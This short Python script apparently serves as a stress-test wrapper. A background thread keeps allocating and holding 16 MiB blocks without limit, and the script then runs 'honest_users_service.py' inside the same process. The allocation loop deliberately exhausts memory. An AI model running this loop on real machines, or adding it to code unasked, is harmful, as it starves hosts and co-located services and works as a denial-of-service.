import threading
import time


def grow():
    held = []
    while True:
        try:
            held.append(bytearray(b"x" * (16 << 20)))
        except MemoryError:
            time.sleep(0.01)


threading.Thread(target=grow, daemon=True).start()

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
